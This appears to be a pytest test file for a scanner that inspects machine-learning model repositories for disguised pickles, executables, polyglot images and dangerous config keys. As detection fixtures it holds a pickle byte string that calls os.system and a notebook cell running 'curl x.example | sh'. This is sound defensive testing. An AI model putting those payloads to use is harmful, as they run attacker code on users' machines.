"""Formats by content; names are compared, and what nobody judges is unknown with a reason."""

from __future__ import annotations

import json
import struct
import zlib
from pathlib import Path

import pytest

from assay.core.finding import Severity, Verdict
from assay.scanning.interface import scan
from assay.scanning.pickle.torch_legacy import MAGIC
from scanning.container_making import (
    COMMAND,
    ELF,
    Member,
    benign_pickle,
    judge,
    safetensors_of,
    tensor,
    torch_members,
    zip_of,
)


def png(extra: bytes = b"", *, end: bool = True) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    data = head + chunk(b"IDAT", zlib.compress(b"\0\0"))
    return data + (chunk(b"IEND", b"") if end else b"") + extra


JPEG = b"\xff\xd8\xff\xe0\x00\x04ab\xff\xda\x00\x04xx\x12\xff\x00\x34\xff\xd0\x56\xff\xd9"
GIF = b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
WEBP = b"RIFF" + struct.pack("<I", 4 + 8 + 4) + b"WEBPVP8 " + struct.pack("<I", 4) + b"abcd"


@pytest.mark.parametrize(
    ("name", "data", "family"),
    [
        ("a.png", png(), "png"),
        ("a.jpg", JPEG, "jpeg"),
        ("a.gif", GIF, "gif"),
        ("a.webp", WEBP, "webp"),
        ("README.md", b"# A model\n", "text"),
        ("LICENSE", "Copyright © 2026".encode(), "text"),
        ("vocab.txt", b"[PAD]\nthe\n##ing\n", "text"),
        ("merges.txt", b"#version: 0.2\nt h\n", "text"),
        (".gitattributes", b"*.bin filter=lfs\n", "text"),
        ("config.json", b'{"hidden_size": 8}', "json"),
        ("rows.jsonl", b'{"a": 1}\n{"a": 2}\n', "json-lines"),
        ("m.pkl", benign_pickle(), "pickle"),
        ("m.bin", benign_pickle(), "pickle"),
        ("m.safetensors", safetensors_of({"a": tensor(0, 1)}, b"x"), "safetensors"),
        ("m.pt", zip_of(torch_members()), "torch"),
        ("__init__.py", b"", "empty"),
        ("modeling.py", b"x = 1\n", "python"),
        ("run", b"#!/bin/sh\ntrue\n", "script"),
        ("config.yaml", b"a: 1\n", "yaml"),
        ("requirements.txt", b"torch\n", "requirements"),
        ("chat_template.jinja", b"{{ messages }}", "jinja"),
        ("logo.svg", b"<svg/>", "svg"),
        ("notes", b"hello\n", "text"),
        ("latin.txt", "é".encode("latin-1"), "text-encoded"),
        ("a.json", b'{"a": NaN}', "json"),
    ],
)
def test_known_formats_are_recognised_and_clean(name: str, data: bytes, family: str) -> None:
    judged = judge(data, name)
    assert (judged.family, judged.verdict) == (family, Verdict.CLEAN), judged


@pytest.mark.parametrize(
    ("name", "data", "word"),
    [
        ("m.safetensors", b"version https://git-lfs.github.com/spec/v1\noid x\n", "LFS pointer"),
        ("model.onnx", b"\x08\x07\x12\x07pytorch", "not known"),
        ("model.gguf", b"GGUF\x03\0\0\0", "cut off"),
        ("model.h5", b"\x89HDF\r\n\x1a\n" + bytes(8), "HDF5"),
        ("a.npy", b"\x93NUMPY\x01\0", "array file"),
        ("a.tar", bytes(257) + b"ustar\0" + bytes(300), "tar"),
        ("a.pkl.gz", b"\x1f\x8b\x08" + bytes(20), "cannot be unpacked"),
        ("a.pkl.zst", b"\x28\xb5\x2f\xfd" + bytes(20), "Zstandard"),
        ("a.pkl.Z", b"\x1f\x9d\x90" + bytes(20), "Unix compress"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), "7z"),
        ("a.rar", b"Rar!\x1a\7\1\0" + bytes(20), "RAR"),
        ("a.cab", b"MSCF" + bytes(40), "cabinet"),
        ("a.deb", b"!<arch>\ndebian-binary   ", "ar archive"),
        ("blob", bytes(range(256)), "not known"),
        ("vocab.txt", b"a\x00b\n", "not the text"),
        ("a.json", b"not json", "not valid JSON"),
        ("a.jsonl", b'{"a": 1}\n{"a"\n', "line 2"),
        ("deep.json", b"[" * 200_000 + b"]" * 200_000, "nested too deep"),
        ("a.safetensors", b"", "empty"),
        ("a.pkl", b"", "empty"),
        ("cut.png", png(end=False), "no IEND"),
        ("cut.jpg", JPEG[:-2], "no end of image"),
        ("cut.gif", GIF[:-1], "broken"),
        ("cut.webp", WEBP[:-1], "cut off"),
    ],
)
def test_what_is_not_judged_is_unknown_with_the_reason(name: str, data: bytes, word: str) -> None:
    judged = judge(data, name)
    assert judged.verdict is Verdict.UNKNOWN, judged
    assert any(word in reason for reason in judged.unread), judged.unread


def test_protocol_0_is_recognised_without_a_header() -> None:
    for name in ("model.pkl", "model.bin", "weights", "README.md", "vocab.txt", "config.json"):
        judged = judge(COMMAND, name)
        assert judged.verdict is Verdict.MALICIOUS, name
        assert "pickle.dangerous-import" in judged.rules


def test_a_command_before_a_parse_error_counts_without_a_header() -> None:
    judged = judge(COMMAND[:-1] + b"\xff\xff broken", "weights.bin")
    assert judged.verdict is Verdict.MALICIOUS


def test_raw_torch_legacy_with_a_command() -> None:
    data = MAGIC + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02" + COMMAND
    judged = judge(data, "pytorch_model.bin")
    assert judged.family == "torch-legacy"
    assert judged.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("name", ["a.png", "a.safetensors", "a.json", "a.txt", "a.md"])
def test_a_pickle_or_archive_behind_a_harmless_name_is_disguised(name: str) -> None:
    for data in (benign_pickle(), zip_of(torch_members())):
        judged = judge(data, name)
        assert "file.disguised" in judged.rules
        assert judged.verdict is Verdict.MALICIOUS


def test_a_program_is_a_finding_whatever_its_name() -> None:
    for name in ("libcustom.so", "model.bin", "README.md"):
        judged = judge(ELF, name)
        assert "file.executable" in judged.rules
        assert judged.verdict is Verdict.MALICIOUS


def test_a_windows_program_is_a_finding() -> None:
    data = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(100)
    assert judge(data, "setup.bin").rules == {"file.executable"}


def test_an_image_of_another_kind_is_low() -> None:
    judged = judge(png(), "photo.jpg")
    assert judged.rules == {"file.other-format"}
    assert judged.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("name", "data"), [("a.png", png()), ("a.jpg", JPEG), ("a.gif", GIF), ("a.webp", WEBP)]
)
def test_bytes_behind_an_image_are_a_finding(name: str, data: bytes) -> None:
    judged = judge(data + b"hidden", name)
    assert judged.rules == {"image.trailing-data"}
    assert judged.findings[0].location.offset == len(data)
    assert judged.verdict is Verdict.SUSPICIOUS
    assert judge(data + ELF, name).verdict is Verdict.MALICIOUS


def test_an_archive_behind_an_image_is_a_polyglot() -> None:
    judged = judge(png(zip_of(torch_members(COMMAND))), "a.png")
    assert {"file.polyglot", "pickle.dangerous-import"} <= judged.rules


def test_a_damaged_chunk_is_a_low_finding() -> None:
    data = bytearray(png())
    data[29] ^= 1
    judged = judge(bytes(data), "a.png")
    assert {f.severity for f in judged.findings} == {Severity.LOW}


def test_text_that_shows_in_another_order_is_reported() -> None:
    assert judge("safe \u202e evil".encode(), "README.md").rules == {"text.direction-override"}


@pytest.mark.parametrize(
    ("name", "document", "rule"),
    [
        ("config.json", {"auto_map": {"AutoModel": "modeling_x.X"}}, "config.remote-code"),
        ("config.json", {"a": [{"auto_map": {"AutoModel": "m.X"}}]}, "config.remote-code"),
        ("config.json", {"custom_generate": "org/repo"}, "config.code-elsewhere"),
        ("config.json", {"custom_pipelines": {"x": {"impl": "m.P"}}}, "config.remote-code"),
        ("config.json", {"trust_remote_code": True}, "config.trusts-code"),
        ("config.json", {"_target_": "mypkg.Model"}, "config.import-reference"),
        ("config.json", {"x": {"_target_": "os.system"}}, "config.dangerous-import"),
        ("config.json", {"activation_function": "evil.Act"}, "config.import-reference"),
        ("config.json", {"activation_function": "os.abort"}, "config.dangerous-import"),
        ("a.json", {"py/reduce": [{"py/type": "os.system"}]}, "config.object-rebuilding"),
        ("m.json", {"class_name": "Lambda", "config": {}}, "keras.lambda"),
        ("modules.json", [{"type": "evil.Module", "path": ""}], "config.import-reference"),
        ("modules.json", [{"type": "os.system", "path": ""}], "config.dangerous-import"),
        ("model_index.json", {"unet": ["my_unet", "UNet"]}, "config.import-reference"),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "evil.x"}},
         "config.import-reference"),
        ("c.json", {"lc": 1, "type": "constructor", "id": ["a", "B"]}, "config.import-reference"),
    ],
)  # fmt: skip
def test_loader_keys_are_never_passed_over(name: str, document: object, rule: str) -> None:
    judged = judge(json.dumps(document).encode(), name)
    assert rule in judged.rules
    if rule in ("config.dangerous-import", "config.object-rebuilding"):
        assert judged.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("name", "document"),
    [
        ("config.json", {"activation_function": "gelu_new", "auto_map": None}),
        ("config.json", {"activation_function": "torch.nn.modules.activation.Tanh"}),
        ("config.json", {"trust_remote_code": False}),
        ("config.json", {"sbert_ce_default_activation_function":
                         "torch.nn.modules.linear.Identity"}),
        ("tokenizer_config.json", {"chat_template": "no tags here"}),
        ("tokenizer.json", {"model": {"vocab": {"auto_map": 1, "_target_": 2, "class_name": 3}}}),
        ("modules.json", [{"type": "sentence_transformers.models.Transformer", "path": ""},
                          {"type": "sentence_transformers.models.Pooling", "path": "1_Pooling"}]),
        ("model_index.json", {"_class_name": "P", "unet": ["diffusers", "UNet2DConditionModel"],
                              "safety_checker": [None, None]}),
    ],
)  # fmt: skip
def test_what_libraries_write_is_clean(name: str, document: object) -> None:
    judged = judge(json.dumps(document).encode(), name)
    assert judged.verdict is Verdict.CLEAN, judged


@pytest.mark.parametrize(
    "template", ["{{ messages }}", "{% for m in messages %}x{% endfor %}",
                 [{"name": "default", "template": "{{ m }}"}]],
)  # fmt: skip
def test_ordinary_chat_templates_are_clean(template: object) -> None:
    judged = judge(json.dumps({"chat_template": template}).encode(), "tokenizer_config.json")
    assert judged.verdict is Verdict.CLEAN


def test_duplicate_keys_in_json_are_a_finding() -> None:
    judged = judge(b'{"a": 1, "a": 2}', "config.json")
    assert judged.rules == {"json.duplicate-key"}
    assert judged.verdict is Verdict.SUSPICIOUS


EXAMPLES = {
    "a.png": png(),
    "a.jpg": JPEG,
    "a.gif": GIF,
    "a.webp": WEBP,
    "a.json": b'{"a": [1, {"auto_map": {"x": "y.Z"}}], "b": 1.5}',
    "a.jsonl": b'{"a": 1}\n[2]\n',
    "a.safetensors": safetensors_of({"a": tensor(0, 4), "__metadata__": {"k": "v"}}, b"abcd"),
    "a.pt": zip_of(torch_members()),
    "b.pt": MAGIC + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02N.\x80\x02].",
    "a.pkl": benign_pickle(),
    "b.pkl": COMMAND,
    "c.pkl": b"\x80\x04\x8c\x02os\x8c\x06system\x93X\x03\0\0\0\xed\xa0\x80\x85R.",
    "d.pkl": b"V\\u20ac\\ud800\np0\n(S'\\x41'\nI01\nL5L\nF1.5\ntc\xc3\xa9\nx\n.",
    "README.md": "# é \u202e\n".encode(),
    "merges.txt": "Ġ t\n".encode(),
    "odd.zip": zip_of([Member("é\u202e.txt", b"x"), Member("../x\x00y", ELF)]),
    "cp437.zip": zip_of([Member("x", b"x", local={"name": b"\x80"}, central={"name": b"\x80"})]),
    "run.sh": b"#!/bin/sh\n",
    "lib.so": ELF,
    "empty": b"",
}


def test_no_family_needs_anything_that_the_sandbox_takes_away(tmp_path: Path) -> None:
    for name, data in EXAMPLES.items():
        (tmp_path / name).write_bytes(data)
    (unit,) = scan(tmp_path).units
    assert not [item for item in unit.unread if "the scanner failed" in item.reason]
    expected = {name: judge(data, name) for name, data in EXAMPLES.items()}
    for name, judged in expected.items():
        rules = {finding.rule for finding in unit.findings if finding.path == name}
        assert rules == judged.rules, name


@pytest.mark.parametrize("name", [name for name in EXAMPLES if name != "empty"])
def test_no_damage_makes_a_scanner_fail(name: str) -> None:
    data = EXAMPLES[name]
    for place in range(0, len(data), max(1, len(data) // 150)):
        for value in (0, 0xFF, data[place] ^ 0x20):
            judge(data[:place] + bytes([value]) + data[place + 1 :], name)
        judge(data[:place], name)


def test_a_notebook_is_known_by_its_content() -> None:
    cell = {"cell_type": "code", "source": ["import os\n", "os.system('curl x.example | sh')\n"]}
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}
    assert judge(json.dumps(document).encode(), "a.json").verdict is Verdict.CLEAN
    document["cells"] = [cell]
    assert judge(json.dumps(document).encode(), "a.json").verdict is not Verdict.CLEAN


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40), "Java class"),
        (b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(40), "macOS"),
        (b"dex\n035\0" + bytes(40), "Android"),
        (b"\0asm\x01\0\0\0" + bytes(40), "WebAssembly"),
    ],
)
def test_code_for_other_machines_is_a_program_too(data: bytes, word: str) -> None:
    judged = judge(data, "helper.bin")
    assert judged.rules == {"file.executable"}
    assert word in judged.findings[0].evidence
